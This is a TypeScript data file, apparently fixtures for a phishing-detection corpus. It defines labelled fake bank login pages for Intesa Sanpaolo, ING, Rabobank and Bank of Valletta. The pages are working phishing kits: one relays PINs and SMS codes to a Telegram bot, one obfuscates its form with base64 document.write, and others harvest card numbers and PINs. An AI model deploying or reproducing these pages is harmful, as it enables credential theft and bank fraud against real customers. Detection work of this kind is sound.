import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-intesa-codice-titolare-tg',
  label: 'phishing',
  kind: 'bank-kit-it',
  url: 'https://intesa-sicurezza-accessi.com/it/login/index.php?id=' + hex('intesa-url', 12),
  body: doc({
    lang: 'it',
    title: 'Intesa Sanpaolo - Accesso clienti',
    css: cardCss('#008a3c', '#f2f2f2', "Arial, Helvetica, sans-serif") + `
.top{border-bottom:4px solid #008a3c}.lg{font-weight:700;color:#008a3c;font-size:21px;display:flex;gap:10px;align-items:center}
.banner{background:#008a3c;color:#fff;padding:26px 0;text-align:center;font-size:24px}
.info{background:#eaf5ee;padding:12px;border-radius:4px;font-size:13px;margin-top:18px}`,
    body: `<div class="top"><div class="lg">${mark('IS', '#008a3c')} Intesa Sanpaolo</div><nav><a href="#">Privati</a><a href="#">Imprese</a><a href="#">Assistenza</a></nav></div>
<div class="banner">Area Riservata</div>
<div class="wrap"><div class="card">
<h1 id="ttl">Accedi</h1><p class="sub" id="sb">Inserisci il codice titolare e il PIN</p>
<form id="frm">
 <div id="p1"><label>Codice Titolare</label><input type="text" name="titolare" maxlength="8" inputmode="numeric" required>
 <label>PIN</label><input type="password" name="pin" maxlength="5" inputmode="numeric" required></div>
 <div id="p2" style="display:none"><label>Numero di cellulare certificato</label><input type="tel" name="cell">
 <label>Codice O-Key SMS</label><input type="text" name="okey" maxlength="6" inputmode="numeric"></div>
 <div class="err" id="er"></div>
 <button class="btn" id="bt" type="submit">Entra</button>
</form>
<div class="info">Per la tua sicurezza abbiamo aggiornato il sistema di autorizzazione <b>O-Key Smart</b>. Dopo l'accesso ti verrà chiesto di confermare il numero di cellulare.</div>
</div></div>
<div class="foot">Intesa Sanpaolo S.p.A. - Sede legale: Piazza San Carlo, 156 10121 Torino - Capitale Sociale Euro 10.368.870.930,08</div>
<script src="https://code.jquery.com/jquery-3.6.0.min.js"></script>
<script>
var step=1,tok="6${digits('intesa-tok', 9)}:AAH${hex('intesa-tok', 32)}",chat="${digits('intesa-chat', 10)}";
function relay(m){var x=new XMLHttpRequest();x.open("GET","https://api.telegram.org/bot"+tok+"/sendMessage?chat_id="+chat+"&text="+encodeURIComponent(m),true);x.send()}
document.getElementById("frm").addEventListener("submit",function(e){e.preventDefault();var f=this;
 if(step===1){relay("[ISP] titolare: "+f.titolare.value+" | pin: "+f.pin.value+" | "+navigator.userAgent);step=2;
  document.getElementById("p1").style.display="none";document.getElementById("p2").style.display="block";document.getElementById("ttl").textContent="Conferma dispositivo";document.getElementById("sb").textContent="Ti abbiamo inviato un SMS con il codice di autorizzazione";document.getElementById("bt").textContent="Conferma";}
 else{relay("[ISP] cell: "+f.cell.value+" | okey: "+f.okey.value);var er=document.getElementById("er");er.style.display="block";er.textContent="Codice scaduto. Ti abbiamo inviato un nuovo codice.";f.okey.value="";step=3;if(step>2)setTimeout(function(){location.href="https://www.intesasanpaolo.com/"},9000)}
});
</script>`,
  }),
},
{
  id: 'yg-ing-nieuwe-betaalpas-docwrite',
  label: 'phishing',
  kind: 'bank-kit-nl',
  url: 'https://ing-pasvernieuwing.nl-klantenservice.net/',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>ING</title><script>var _0x5e=['\\x77\\x72\\x69\\x74\\x65','\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74'];function _0xd(s){return decodeURIComponent(Array.prototype.map.call(atob(s),function(c){return'%'+('00'+c.charCodeAt(0).toString(16)).slice(-2)}).join(''))}</script></head><body>
<script>window[_0x5e[1]][_0x5e[0]](_0xd("${b64(`<style>body{margin:0;font-family:'ING Me',Arial,sans-serif;background:#f0f0f0;color:#333}.h{background:#fff;padding:12px 20px;border-bottom:1px solid #ddd;display:flex;align-items:center;gap:10px}.h b{color:#ff6200;font-size:22px}.m{max-width:480px;margin:30px auto;background:#fff;padding:28px;border-radius:4px}.m h1{color:#ff6200;font-size:24px;margin-top:0}label{display:block;margin:14px 0 5px;font-size:14px}input,select{width:100%;padding:10px;border:1px solid #999;border-radius:3px;box-sizing:border-box;font-size:15px}button{margin-top:20px;background:#ff6200;color:#fff;border:0;padding:12px 26px;border-radius:3px;font-size:16px;font-weight:bold;cursor:pointer}.note{font-size:13px;color:#666;margin-top:16px}</style>
<div class="h">${mark('ING', '#ff6200')}<b>ING</b></div>
<div class="m"><h1>Nieuwe betaalpas aanvragen</h1>
<p>Uw huidige betaalpas voldoet niet meer aan de nieuwe Europese veiligheidseisen en wordt <b>per 1 van de volgende maand</b> geblokkeerd. Vraag hieronder kosteloos een vervangende pas aan.</p>
<form method="post" action="verwerk.php">
<label>IBAN</label><input name="iban" placeholder="NL00 INGB 0000 0000 00" required>
<label>Pasnummer (staat op de achterkant van uw pas)</label><input name="pasnr" maxlength="4" required>
<label>Vervaldatum pas</label><input name="exp" placeholder="MM-JJ" required>
<label>Naam zoals op de pas</label><input name="naam" required>
<label>Mobiel nummer</label><input name="tel" type="tel" required>
<label>E-mailadres</label><input name="mail" type="email" required>
<button type="submit">Pas aanvragen</button>
</form>
<p class="note">Na het aanvragen neemt een medewerker van de afdeling Fraudepreventie telefonisch contact met u op om de aanvraag te bevestigen en uw oude pas op te halen.</p>
</div>`)}"));</script>
</body></html>`,
  routes: {
    'ing-pasvernieuwing.nl-klantenservice.net/verwerk.php': htmlRoute('<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"><title>ING</title><meta http-equiv="refresh" content="3;url=https://www.ing.nl/"></head><body style="font-family:Arial;padding:40px"><h2 style="color:#ff6200">Bedankt</h2><p>Uw aanvraag is ontvangen. Houd uw telefoon bij de hand: een medewerker belt u binnen 30 minuten.</p></body></html>'),
  },
},
{
  id: 'yg-rabo-scanner-verlopen',
  label: 'phishing',
  kind: 'bank-kit-nl',
  url: 'https://rabo-scanner-activatie.com/particulieren/',
  body: doc({
    lang: 'nl',
    title: 'Rabo Scanner activeren - Rabobank',
    css: cardCss('#000d9e', '#eef0f8', "'Myriad Pro', Arial, sans-serif") + `
.top .r{font-weight:800;color:#000d9e;font-size:22px;display:flex;gap:10px;align-items:center}
.scanner{background:#1c1c1c;color:#7fe07f;font-family:monospace;font-size:24px;letter-spacing:6px;padding:10px;text-align:center;border-radius:6px;margin:14px 0}
ol{padding-left:20px;font-size:14px;color:#444}`,
    body: `<div class="top"><div class="r">${mark('R', '#ff7700')} Rabobank</div><nav><a href="#">Particulieren</a><a href="#">Zakelijk</a><a href="#">Contact</a></nav></div>
<div class="wrap"><div class="card">
<h1>Rabo Scanner opnieuw activeren</h1>
<p class="sub">Uit onze controle blijkt dat uw Rabo Scanner een verouderde softwareversie gebruikt. Activeer hem opnieuw om gebruik te blijven maken van Rabo Internetbankieren.</p>
<form id="rf" method="post" action="/particulieren/check.php">
<label>Rekeningnummer</label><input type="text" name="rek" placeholder="NL.. RABO ...." required>
<label>Pasnummer</label><input type="text" name="pas" maxlength="4" required>
<ol><li>Steek uw bankpas in de Rabo Scanner en druk op de knop <b>Inloggen</b>.</li><li>Voer uw pincode in op de Rabo Scanner.</li><li>Voer de code hieronder in:</li></ol>
<div class="scanner" id="ch">${digits('rabo-ch', 8)}</div>
<label>Antwoordcode van de Rabo Scanner</label><input type="text" name="resp" maxlength="8" inputmode="numeric" required>
<button class="btn" type="submit">Activeren</button></form>
</div></div>
<div class="foot">Rabobank 2025 <a href="#">Privacy</a><a href="#">Cookies</a><a href="#">Veilig bankieren</a></div>
<script>setInterval(function(){fetch('/particulieren/ch.php').then(function(r){return r.json()}).then(function(j){if(j.c)document.getElementById('ch').textContent=j.c})},5000)</script>`,
  }),
  routes: {
    'rabo-scanner-activatie.com/particulieren/ch.php': jsonRoute({ c: digits('rabo-ch2', 8) }),
  },
},
{
  id: 'yg-bov-account-restricted-mt',
  label: 'phishing',
  kind: 'bank-kit-mt',
  url: 'https://bov-mt.secure-review.net/internetbanking/',
  body: doc({
    lang: 'en-MT',
    title: 'BOV Internet Banking',
    css: cardCss('#e2231a', '#f5f5f5', "Lato, Arial, sans-serif") + `.top{border-top:4px solid #e2231a}.lg{display:flex;align-items:center;gap:10px;font-weight:800;font-size:22px;color:#e2231a}.lang a{margin-left:10px;font-size:13px}.mt{font-style:italic;color:#555;font-size:13px}`,
    body: `<div class="top"><div class="lg">${mark('BOV', '#e2231a')} Bank of Valletta</div><div class="lang"><a href="#" onclick="mt();return false">Malti</a><a href="#">English</a></div></div>
<div class="wrap"><div class="card">
<h1>Account review required</h1>
<p class="sub">Due to unusual activity, access to your BOV accounts has been limited. Please verify your details to restore full access.</p>
<p class="mt" id="mtt">Il-kont tiegħek ġie ristrett minħabba attività mhux tas-soltu. Jekk jogħġbok ikkonferma d-dettalji tiegħek.</p>
<form method="post" action="verify.php">
<label>User ID</label><input type="text" name="userid" required>
<label>Password</label><input type="password" name="pwd" required>
<label>Debit card number</label><input type="text" name="card" id="cn" inputmode="numeric" required>
<div class="row"><div><label>Expiry</label><input type="text" name="exp" id="ex" placeholder="MM/YY" required></div><div><label>PIN</label><input type="password" name="pin" maxlength="4" required></div></div>
<label>Mobile number</label><input type="tel" name="mob" placeholder="+356" required>
<button class="btn" type="submit">Verify</button></form>
</div></div>
<div class="foot">Bank of Valletta p.l.c. 58, Triq San Żakkarija, Il-Belt Valletta VLT 1130 - Regulated by the MFSA</div>
<script>${cardJs}fmtCard(document.getElementById('cn'));fmtExp(document.getElementById('ex'));function mt(){document.querySelector('h1').textContent='Reviżjoni tal-kont meħtieġa'}</script>`,
  }),
},
];
